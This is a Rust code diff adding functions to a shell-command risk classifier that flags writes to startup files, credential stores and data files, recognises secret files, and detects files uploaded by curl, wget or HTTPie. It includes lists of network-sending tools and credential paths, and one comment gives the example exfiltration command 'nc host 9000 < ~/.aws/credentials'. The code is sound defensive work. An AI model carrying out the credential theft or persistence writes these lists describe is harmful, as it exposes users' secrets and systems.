@@ -2,7 +2,7 @@
 //! operands, sensitive paths, literal output of `echo`/`printf`, and environment
 //! assignments that change what later commands run.
 
-use super::shell::{Sh, decode_escapes, program_name};
+use super::shell::{Input, Sh, decode_escapes, program_name};
 use crate::Effect::{self, Admin, Destructive, Mutating};
 
 /// Short flags (clusters like `-rf`) and long flags before `--`.
@@ -174,6 +174,215 @@ pub(crate) fn sensitive_path(path: &str) -> Option<(Effect, &'static str)> {
     None
 }
 
+/// What writing `path` does beyond a plain write, for a path a command writes (a
+/// redirection target, `-o FILE`, `uniq IN OUT`, `mv`'s destination), never for one it only
+/// reads: a sensitive path (above); a shell startup file or credential store (persistence
+/// or a credential change: admin, also when appended to); a data location or database file
+/// overwritten (its content is lost: destructive; appending keeps it, so only a write).
+pub(crate) fn write_risk(path: &str, append: bool) -> Option<(Effect, &'static str)> {
+    if let Some(hit) = sensitive_path(path) {
+        return Some(hit);
+    }
+    let p = path.to_ascii_lowercase();
+    let file = p.rsplit(['/', '\\']).next().unwrap_or("");
+    const STARTUP: &[&str] = &[
+        ".bashrc",
+        ".bash_profile",
+        ".bash_login",
+        ".bash_logout",
+        ".profile",
+        ".zshrc",
+        ".zshenv",
+        ".zprofile",
+        ".zlogin",
+        ".cshrc",
+        ".tcshrc",
+        ".kshrc",
+        ".inputrc",
+        ".gitconfig",
+        ".netrc",
+        ".npmrc",
+        ".pypirc",
+        ".pgpass",
+        ".my.cnf",
+        ".git-credentials",
+        ".xinitrc",
+        ".xprofile",
+    ];
+    const STORES: &[&str] = &[
+        ".ssh/",
+        ".aws/",
+        ".kube/",
+        ".docker/",
+        ".gnupg/",
+        ".config/autostart",
+        ".config/fish/",
+        ".config/systemd/",
+        ".azure/",
+        ".config/gcloud/",
+    ];
+    if STARTUP.contains(&file) || STORES.iter().any(|d| p.contains(d)) {
+        return Some((
+            Admin,
+            "a shell startup file or credential store (persistence or credential change)",
+        ));
+    }
+    if append {
+        return None;
+    }
+    if p.starts_with("/tmp/") || p.starts_with("/var/tmp/") || p.starts_with("/dev/shm/") {
+        return None;
+    }
+    // Backup destinations (`/var/backups`, `/mnt`) are left out: a new dump written there is
+    // the usual case.
+    const DATA_DIRS: &[&str] = &[
+        "/var/lib/",
+        "/var/log/",
+        "/var/www/",
+        "/var/opt/",
+        "/srv/",
+        "/data/",
+        "/opt/",
+    ];
+    let db_file = file.starts_with("ibdata")
+        || file.starts_with("ib_logfile")
+        || file == "pg_version"
+        || file == "pg_control"
+        || [
+            ".db", ".sqlite", ".sqlite3", ".db3", ".mdb", ".ibd", ".frm", ".myd", ".wt", ".mdf",
+            ".ldf",
+        ]
+        .iter()
+        .any(|x| file.ends_with(x));
+    if db_file || DATA_DIRS.iter().any(|d| p.starts_with(d)) {
+        return Some((
+            Destructive,
+            "a data file or data location (its content is lost)",
+        ));
+    }
+    None
+}
+
+/// Files holding secrets (private keys, cloud and registry credentials, `.env`): sending one
+/// over the network is exfiltration (admin).
+pub(crate) fn secret_path(path: &str) -> bool {
+    let p = path.to_ascii_lowercase();
+    let file = p.rsplit(['/', '\\']).next().unwrap_or("");
+    const FILES: &[&str] = &[
+        ".env",
+        ".netrc",
+        ".pgpass",
+        ".my.cnf",
+        ".git-credentials",
+        ".npmrc",
+        ".pypirc",
+        "credentials",
+        "credentials.json",
+        "shadow",
+        "gshadow",
+        "master.key",
+        "secrets.yml",
+        "secrets.yaml",
+        "secrets.json",
+        ".vault-token",
+        "kubeconfig",
+    ];
+    // A public key is meant to be shared.
+    if file.ends_with(".pub") {
+        return false;
+    }
+    FILES.contains(&file)
+        || file.starts_with(".env.")
+        || file.starts_with("id_rsa")
+        || file.starts_with("id_dsa")
+        || file.starts_with("id_ecdsa")
+        || file.starts_with("id_ed25519")
+        || [".pem", ".key", ".p12", ".pfx", ".jks", ".keystore", ".ppk"]
+            .iter()
+            .any(|x| file.ends_with(x))
+        || [
+            ".ssh/",
+            ".aws/",
+            ".kube/config",
+            ".docker/config.json",
+            ".gnupg/",
+            ".azure/",
+            "gcloud/",
+        ]
+        .iter()
+        .any(|d| p.contains(d))
+}
+
+/// The local files a `curl`/`wget`/HTTPie command sends: `-T F`, `-F name=@F`/`name=<F`,
+/// `-d @F`, `--data-urlencode name@F`, `--post-file F`, `http … name@F`.
+pub(crate) fn uploaded_files<'a>(name: &str, args: &'a [String]) -> impl Iterator<Item = &'a str> {
+    const FLAGS: &[&str] = &[
+        "-T",
+        "--upload-file",
+        "-F",
+        "--form",
+        "--form-string",
+        "-d",
+        "--data",
+        "--data-binary",
+        "--data-ascii",
+        "--data-urlencode",
+        "--json",
+        "--post-file",
+        "--body-file",
+    ];
+    let curl_like = matches!(name, "curl" | "wget");
+    let mut prev: Option<&'a str> = None;
+    args.iter().filter_map(move |a| {
+        let before = prev.replace(a.as_str());
+        // The flag and its value: the next word, or attached (`-Tfile`, `--form=x=@f`).
+        let (flag, v) = match before {
+            Some(f) if FLAGS.contains(&f) => (Some(f), a.as_str()),
+            _ => match FLAGS.iter().find_map(|f| {
+                a.strip_prefix(f)
+                    .filter(|v| !v.is_empty() && (f.len() == 2 || v.starts_with('=')))
+                    .map(|v| (*f, v.strip_prefix('=').unwrap_or(v)))
+            }) {
+                Some((f, v)) => (Some(f), v),
+                None if !curl_like && !a.starts_with('-') => (None, a.as_str()),
+                None => return None,
+            },
+        };
+        let whole_file = matches!(
+            flag,
+            Some("-T" | "--upload-file" | "--post-file" | "--body-file")
+        );
+        let file = v
+            .split_once("=@")
+            .or_else(|| v.split_once("=<"))
+            .map(|(_, f)| f)
+            .or_else(|| v.strip_prefix('@'))
+            .or_else(|| v.split_once('@').map(|(_, f)| f).filter(|_| !curl_like))
+            .or_else(|| whole_file.then_some(v))?;
+        // `;type=…` options after the file name in `-F`.
+        Some(file.split(';').next().unwrap_or(file))
+    })
+}
+
+/// Programs that send their input over the network.
+pub(crate) const NETWORK_SENDERS: &[&str] = &[
+    "nc", "ncat", "netcat", "telnet", "socat", "curl", "wget", "ssh", "openssl", "ftp", "sftp",
+    "tftp", "mail", "mailx", "sendmail", "http", "https", "xh", "scp",
+];
+
+/// The content of a file as a program's input; a secret file is marked so that a program
+/// that sends its input away (`nc host 9000 < ~/.aws/credentials`) is seen doing so.
+pub(crate) fn file_input(path: &str) -> Input {
+    if secret_path(path) {
+        Input::Unknown(format!("{SECRET_INPUT}`{path}`"))
+    } else {
+        Input::Unknown(format!("the file `{path}`"))
+    }
+}
+
+/// How [`file_input`] describes a secret file.
+pub(crate) const SECRET_INPUT: &str = "the secret file ";
+
 /// True if the command writes nothing to its output (so `cmd > f` only truncates `f`).
 pub(crate) fn produces_nothing(argv: &[String]) -> bool {
     let Some(first) = argv.first() else {
@@ -270,5 +479,70 @@ pub(crate) fn assignment(sh: &mut Sh, name: &str, value: &str, standalone: bool)
             Mutating,
             format!("sets `{name}`, which changes what later commands do"),
         );
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn write_risk_by_location() {
+        let risk = |p: &str, append: bool| write_risk(p, append).map(|(e, _)| e);
+        assert_eq!(risk("/var/lib/mysql/ibdata1", false), Some(Destructive));
+        assert_eq!(
+            risk("/srv/app/config/database.yml", false),
+            Some(Destructive)
+        );
+        assert_eq!(risk("./prod.sqlite", false), Some(Destructive));
+        assert_eq!(risk("/home/dev/.bashrc", true), Some(Admin));
+        assert_eq!(risk("~/.ssh/config", false), Some(Admin));
+        assert_eq!(risk("/etc/hosts", false), Some(Admin));
+        // Twins: the workspace, /tmp, appending to data, a backup destination.
+        assert_eq!(risk("out.txt", false), None);
+        assert_eq!(risk("/tmp/x.db", false), None);
+        assert_eq!(risk("/var/log/app.log", true), None);
+        assert_eq!(risk("/var/backups/shop.sql", false), None);
+    }
+
+    #[test]
+    fn secret_paths() {
+        for p in [
+            "~/.ssh/id_ed25519",
+            "/home/app/.env",
+            "~/.aws/credentials",
+            "server.key",
+        ] {
+            assert!(secret_path(p), "{p}");
+        }
+        for p in [
+            "~/.ssh/id_ed25519.pub",
+            "README.md",
+            "src/env.rs",
+            "report.pdf",
+        ] {
+            assert!(!secret_path(p), "{p}");
+        }
+    }
+
+    #[test]
+    fn uploaded_files_of_curl_and_httpie() {
+        let argv = |s: &str| s.split(' ').map(str::to_string).collect::<Vec<_>>();
+        let files = |name: &str, s: &str| {
+            uploaded_files(name, &argv(s))
+                .map(str::to_string)
+                .collect::<Vec<_>>()
+        };
+        assert_eq!(files("curl", "-T a.tgz https://x"), ["a.tgz"]);
+        assert_eq!(
+            files("curl", "-F f=@b.txt;type=text/plain https://x"),
+            ["b.txt"]
+        );
+        assert_eq!(files("curl", "--data-binary @c.json https://x"), ["c.json"]);
+        assert_eq!(files("wget", "--post-file=d.bin https://x"), ["d.bin"]);
+        assert_eq!(files("http", "POST https://x @e.json"), ["e.json"]);
+        // Twins: data that is not a file.
+        assert!(files("curl", "-d a=1 https://x").is_empty());
+        assert!(files("curl", "-H Authorization:x https://x").is_empty());
     }
 }
